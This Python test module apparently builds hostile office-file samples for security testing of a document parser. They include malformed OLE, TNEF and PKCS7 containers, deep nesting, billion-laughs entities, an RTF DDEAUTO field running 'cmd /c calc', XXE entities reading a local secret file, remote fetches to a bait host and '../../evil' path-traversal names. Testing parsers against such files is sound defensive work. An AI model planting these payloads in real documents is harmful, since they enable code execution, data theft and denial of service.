"""Old and foreign office files that are attacks: OLE, Outlook's kinds, RTF, OpenDocument, pages, Word's own XML."""

from __future__ import annotations

import base64
import struct
from collections.abc import Iterator

from tests.build import mail, office, word
from tests.build.attacks.attack import DOC, Attack, Bait, Make, cut, dice, files, scratched

_FREE, _END, _FAT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
_PKG = "http://schemas.microsoft.com/office/2006/xmlPackage"


def ole(fat: list[int], directory: bytes = b"", *, first: int = 1, shift: int = 9) -> bytes:
    """An OLE file with this FAT in sector 0 and these sectors of the directory (and of what follows) from 1 on."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(24, b"\0") + struct.pack("<5H", 62, 3, 0xFFFE, shift, 6)
    head = (
        head.ljust(44, b"\0") + struct.pack("<2I4I", 1, first, 0, 4096, _END, 0) + struct.pack("<2I", _END, 0)
    )
    head = head[:76] + struct.pack("<I", 0)
    table = struct.pack(f"<{len(fat)}I", *fat).ljust(512, b"\xff")
    return head.ljust(512, b"\xff") + table + directory


def _entry(
    name: str,
    kind: int,
    links: tuple[int, int, int] = (_FREE, _FREE, _FREE),
    *,
    at: tuple[int, int] = (_END, 0),
) -> bytes:
    """An entry of the directory: `links` are left, right, child; `at` the first sector and the size."""
    text = name.encode("utf-16-le")[:62]
    head = text.ljust(64, b"\0") + struct.pack("<HBB3I", len(text) + 2, kind, 1, *links)
    return head.ljust(116, b"\0") + struct.pack("<IQ", *at)


def _directory(name: str, start: int, size: int) -> bytes:
    return (_entry("Root Entry", 5, (_FREE, _FREE, 1)) + _entry(name, 2, at=(start, size))).ljust(512, b"\0")


def _streams(name: str) -> dict[str, Make | bytes]:
    """Attacks on the container, for each kind of file that is told by the name of a stream."""
    circle = (_entry("Root Entry", 5, (_FREE, _FREE, 1)) + _entry(name, 2, (1, 1, 1))).ljust(512, b"\0")
    return {
        "a chain in a circle": ole([_FAT, _END, 3, 2], _directory(name, 2, 1 << 20) + bytes(1024)),
        "a directory in a circle": ole([_FAT, 1], circle),
        "a stream of 2 to the 63": ole([_FAT, _END, _END], _directory(name, 2, 2**63 - 1) + bytes(512)),
        "a stream of nothing": ole([_FAT, _END, _END], _directory(name, 2, 8192) + bytes(512)),
        "a stream beyond the end": ole([_FAT, _END], _directory(name, 0xFFFFFF, 9_000)),
    }


def _container() -> dict[str, Make | bytes]:
    made: dict[str, Make | bytes] = {
        "ole: sectors of 2 to the 30": ole([_FAT, _END], bytes(512), shift=30),
        "ole: sectors of one byte": ole([_FAT, _END], bytes(512), shift=0),
        "ole: a directory somewhere else": ole([_FAT, _END], bytes(512), first=0xFFFFFF0),
        "ole: a head and nothing": mail.ole("WordDocument")[:512],
        "ole: a page of noise": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + dice("ole").randbytes(20_000),
        "ole: 60 000 entries": lambda _: ole([_FAT, *range(2, 120), 1], _entry("a", 1, (0, 2, 1)) * 60_000),
    }
    for stream in ("WordDocument", "__properties_version1.0", "Workbook", "EncryptedPackage"):
        made |= {f"ole: {stream}, {what}": make for what, make in _streams(stream).items()}
    return made


def _attribute(kind: int, data: bytes, *, says: int | None = None, level: int = 2) -> bytes:
    length = len(data) if says is None else says
    return (
        struct.pack("<BII", level, kind, length & 0xFFFFFFFF) + data + struct.pack("<H", sum(data) & 0xFFFF)
    )


def tnef(*attributes: bytes) -> bytes:
    """A winmail.dat of these attributes."""
    return b"\x78\x9f\x3e\x22\x01\0" + b"".join(attributes)


_RENDERED, _DATA, _TITLE, _PROPERTIES, _BODY = 0x00069002, 0x0006800F, 0x00018010, 0x00069005, 0x0002800C


def _tnef_in_tnef(levels: int) -> bytes:
    inner = tnef(_attribute(_DATA, b"het"))
    for _ in range(levels):
        inner = tnef(
            _attribute(_RENDERED, bytes(14)), _attribute(_TITLE, b"winmail.dat\0"), _attribute(_DATA, inner)
        )
    return inner


_TNEF: dict[str, Make | bytes] = {
    "tnef: noise": lambda _: tnef(dice("tnef").randbytes(9_000)),
    "tnef: a length of 2 to the 32": tnef(_attribute(_DATA, b"x", says=2**32 - 1)),
    "tnef: a text of NUL and nothing else": tnef(_attribute(_BODY, b"\0", level=1)),
    "tnef: a length below zero": tnef(_attribute(_DATA, b"x", says=-9)),
    "tnef: 100 000 attributes of nothing": lambda _: tnef(_attribute(_DATA, b"") * 100_000),
    "tnef: in itself, 60 deep": lambda _: _tnef_in_tnef(60),
    "tnef: properties that lie": tnef(_attribute(_PROPERTIES, struct.pack("<3I", 2**32 - 1, 0x101F0037, 2**31) + bytes(20))),
    "tnef: a name that climbs": tnef(
        _attribute(_RENDERED, bytes(14)), _attribute(_TITLE, b"../../evil.docx\0"), _attribute(_DATA, b"a")
    ),
    "tnef: cut": lambda _: cut("tnef", _tnef_in_tnef(3)),
}  # fmt: skip


def der(tag: int, data: bytes, *, says: int | None = None) -> bytes:
    """One value of DER; `says` is a length that lies."""
    length = len(data) if says is None else says
    return bytes([tag, 0x84]) + struct.pack(">I", length) + data


_SIGNED = b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02"
_SEALED = b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03"

_P7M: dict[str, Make | bytes] = {
    "p7m: noise": lambda _: der(0x30, _SIGNED + dice("p7m").randbytes(9_000)),
    "p7m: a length of 2 to the 32": der(0x30, _SIGNED + der(0xA0, b"x", says=2**32 - 1)),
    "p7m: a length that is too short": der(0x30, _SIGNED + der(0xA0, bytes(9_000), says=1), says=20),
    "p7m: open ends 20 000 deep": lambda _: b"\x30\x80" + _SIGNED + b"\xa0\x80\x30\x80" * 20_000,
    "p7m: values 9 000 deep": lambda _: _nested_der(9_000),
    "p7m: sealed": der(0x30, _SEALED + der(0xA0, der(0x30, b"\x02\x01\0"))),
    "p7m: pieces without end": b"\x30\x80" + _SIGNED + b"\xa0\x80\x24\x80" + b"\x04\0" * 20_000,
    "p7m: letters that are no base64": b"-----BEGIN PKCS7-----\n" + b"!@#$" * 9_000,
}  # fmt: skip


def _nested_der(levels: int) -> bytes:
    inner = b"\x05\0"
    for _ in range(levels):
        inner = der(0x30, inner)
    return der(0x30, _SIGNED + der(0xA0, inner))


def rtf(inside: str) -> bytes:
    """An RTF with this inside."""
    return b"{\\rtf1\\ansi " + inside.encode("ascii") + b"}"


def _baited(template: str, make: str = "rtf") -> Make:
    def made(bait: Bait) -> bytes:
        text = (
            template.replace("HTTP", bait.http)
            .replace("FILE", str(bait.secret))
            .replace("URI", bait.secret.as_uri())
        )
        return rtf(text) if make == "rtf" else text.encode()

    return made


_RTF: dict[str, Make | bytes] = {
    "rtf: groups 100 000 deep": lambda _: rtf("{" * 100_000 + "a"),
    "rtf: bytes without end": rtf("\\bin99999999999 x"),
    "rtf: numbers without end": rtf("\\par\\fs99999999999\\li-99999999999\\u-99999999999?a\\par" * 50),
    "rtf: fields that fetch": _baited(
        '{\\field{\\*\\fldinst INCLUDEPICTURE "HTTP/p.png" \\\\d}{\\fldrslt a}}\\par Bao cao'
        '{\\field{\\*\\fldinst DDEAUTO cmd "/c calc"}{\\fldrslt c}}\\par'
    ),
    "rtf: a field from a file": _baited('{\\field{\\*\\fldinst INCLUDETEXT "FILE"}{\\fldrslt b}}\\par Bao cao\\par'),
    "rtf: a template from the net": _baited("{\\*\\template HTTP/t.dot}\\par Bao cao\\par"),
    "rtf: an object from the net": _baited(
        "{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 0105}{\\result d}}\\par Bao cao\\par"
    ),
    "rtf: an object of noise": lambda _: rtf("{\\object\\objemb{\\*\\objdata " + dice("rtf").randbytes(5_000).hex() + "}}a"),
    "rtf: a picture of noise": lambda _: rtf("{\\pict\\pngblip\\picw99999999\\pich99999999 " + "89504e47" * 999 + "}a"),
    "rtf: a table of 5 000 columns": lambda _: rtf(
        "\\trowd" + "".join(f"\\cellx{n}" for n in range(5_000)) + "\\intbl a" + "\\cell" * 5_000 + "\\row"
    ),
    "rtf: cut": lambda _: cut("rtf", office.rtf(*["Báo cáo sơ kết"] * 200)),
}  # fmt: skip

_ODT: dict[str, Make | bytes] = {
    "odt: 10 to the 9 blanks": lambda _: office.odt(office.odt_body("a", more='<text:p>a<text:s text:c="1000000000"/>b</text:p>')),
    "odt: 10 to the 9 columns": lambda _: office.odt(office.odt_body(more=(
        '<table:table><table:table-column table:number-columns-repeated="1000000000"/><table:table-row '
        'table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000"/>'
        "</table:table-row></table:table>"))),
    "odt: sections 5 000 deep": lambda _: office.odt(
        office.odt_body(more="<text:section>" * 5_000 + "<text:p>a</text:p>" + "</text:section>" * 5_000)
    ),
    "odt: that fetches": lambda bait: office.odt(office.odt_body(
        "Báo cáo", more=office.picture(f"{bait.http}/odt") + office.linked_section(f"{bait.http}/section.odt")
        + office.linked_section(bait.secret.as_uri()))),
    "odt: flat, that fetches": lambda bait: office.flat_odt(office.odt_body(
        "Báo cáo", more=office.picture(f"{bait.http}/flat") + office.linked_section(bait.secret.as_uri()))),
    "odt: flat, with entities": lambda bait: office.flat_odt(office.odt_body("&x;")).replace(
        b"?><office", f'?><!DOCTYPE o [<!ENTITY x SYSTEM "{bait.secret.as_uri()}">]><office'.encode()
    ).replace(b"&amp;x;", b"&x;"),
    "odt: flat, billion laughs": lambda _: office.flat_odt(office.odt_body("&x;")).replace(
        b"?><office",
        ("?><!DOCTYPE o [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
         + "]><office").encode(),
    ).replace(b"&amp;x;", b"&a9;"),
    "odt: locked": lambda _: office.odt(office.odt_body("a"), locked=True),
    "odt: cut": lambda _: cut("odt", office.odt(office.odt_body(*["Báo cáo"] * 300))),
}  # fmt: skip

_PAGE = (
    '<html><head><base href="HTTP/"><link rel="stylesheet" href="HTTP/css"><style>@import url("HTTP/import");'
    'body{background:url(HTTP/bg)}</style></head><body><img src="HTTP/html.gif"><img src="URI"><iframe src="HTTP/frame">'
    '</iframe><object data="HTTP/object"></object><script src="HTTP/js"></script><p>Bao cao so ket</p></body></html>'
)

_PAGES: dict[str, Make | bytes] = {
    "html: that fetches": _baited(_PAGE, "page"),
    "html: cells over 10 to the 9": b"<html><table>" + b'<tr><td colspan="1000000000" rowspan="1000000000">a</td></tr>' * 99,
    "html: 300 000 levels": b"<html><body>" + b"<div><b>" * 150_000 + b"a",
    "html: tables 3 000 deep": b"<html><body>" + b"<table><tr><td>" * 3_000 + b"a",
    "html: a list from 10 to the 18": b'<html><body><ol start="999999999999999999">' + b"<li value=-1>a" * 9_000,
    "html: 200 000 attributes": b"<html><p " + b"a=b " * 200_000 + b">a",
    "html: one style of 5 MB": b"<html><p style='" + b"font-weight:bold;" * 300_000 + b"'>a",
    "html: entities": b"<html><!DOCTYPE x [<!ENTITY y 'z'>]><p>" + b"&#x1;&#0;&#55296;&y;&amp" * 20_000,
    "html: comments without end": b"<html><p>a" + b"<!--" * 200_000,
    "mht: that fetches": lambda bait: (
        b"From: <Saved by Word>\r\nSubject: a\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n"
        b"Content-Location: " + bait.http.encode() + b"/here\r\n\r\n" + _baited(_PAGE, "page")(bait) + b"\r\n--x--"),
    "mht: 500 levels": b"From: <Saved by Word>\r\nSubject: a\r\nMIME-Version: 1.0\r\nX-A: multipart/related\r\n" + mail.deep(500),
}  # fmt: skip


def _flat_docx(inside: str, more: str = "") -> bytes:
    links = '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    parts = (
        f'<pkg:part pkg:name="/_rels/.rels"><pkg:xmlData><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{links}</Relationships></pkg:xmlData></pkg:part>'
        f'<pkg:part pkg:name="/word/document.xml"><pkg:xmlData><w:document {word._NAMESPACES}><w:body>{inside}</w:body></w:document></pkg:xmlData></pkg:part>'
    )
    return f'<?xml version="1.0"?><pkg:package xmlns:pkg="{_PKG}">{parts}{more}</pkg:package>'.encode()


_NOISE = base64.b64encode(bytes(5_000_000)).decode()
_WORD_XML = '<?xml version="1.0"?>{top}<?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body>{inside}</w:body></w:wordDocument>'

_XML: dict[str, Make | bytes] = {
    "xml: flat docx, 20 000 parts": lambda _: _flat_docx("<w:p/>", "".join(
        f'<pkg:part pkg:name="/x{n}"><pkg:binaryData/></pkg:part>' for n in range(20_000))),
    "xml: flat docx, parts that climb": lambda _: _flat_docx(
        "<w:p/>", '<pkg:part pkg:name="/../../evil"><pkg:binaryData>QQ==</pkg:binaryData></pkg:part>'),
    "xml: flat docx, a part of 5 MB": lambda _: _flat_docx(
        "<w:p/>", f'<pkg:part pkg:name="/a.bin"><pkg:binaryData>{_NOISE}</pkg:binaryData></pkg:part>'),
    "xml: Word 2003 with entities": lambda bait: _WORD_XML.format(
        top=f'<!DOCTYPE w [<!ENTITY x SYSTEM "{bait.secret.as_uri()}">]>', inside="<w:p><w:r><w:t>&x;</w:t></w:r></w:p>"
    ).encode(),
    "xml: Word 2003 that fetches": lambda bait: _WORD_XML.format(
        top="", inside=f'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="{bait.http}/xml"/>'
        "</v:shape></w:pict><w:t>Bao cao</w:t></w:r></w:p>").encode(),
    "xml: any, with entities": lambda bait: (
        f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "{bait.http}/xml"><!ENTITY y SYSTEM "{bait.secret.as_uri()}">]>'
        "<a>&x;&y;</a>").encode(),
    "xml: any, 100 000 deep": lambda _: b'<?xml version="1.0"?>' + b"<a>" * 100_000,
}  # fmt: skip


def old_report() -> bytes:
    """A report as Word 97 saved it."""
    return office.doc(word.docx(*(word.p(f"Đoạn {n} của báo cáo sơ kết.") for n in range(60))))


_DOC: dict[str, Make | bytes] = {
    "doc: cut by half": lambda _: old_report()[: len(old_report()) // 2],
    "doc: cut at random": lambda _: cut("doc", old_report()),
    "doc: scratched": lambda _: scratched("doc", old_report()),
    "doc: a head and zeros": lambda _: old_report()[:1024] + bytes(30_000),
    "doc: all zeros": bytes(40_000),
}  # fmt: skip


def attacks() -> Iterator[Attack]:
    """All of them. Web pages and their kin call themselves old Word files, as they do in the post."""
    yield from files(_container() | _RTF | _PAGES | _XML | _DOC, file="bao cao.doc", declared=DOC)
    yield from files(_ODT, file="bao cao.odt", declared=office.ODT_TYPE)
    yield from files(_TNEF, file="winmail.dat", declared="application/ms-tnef")
    yield from files(_P7M, file="smime.p7m", declared="application/pkcs7-mime")
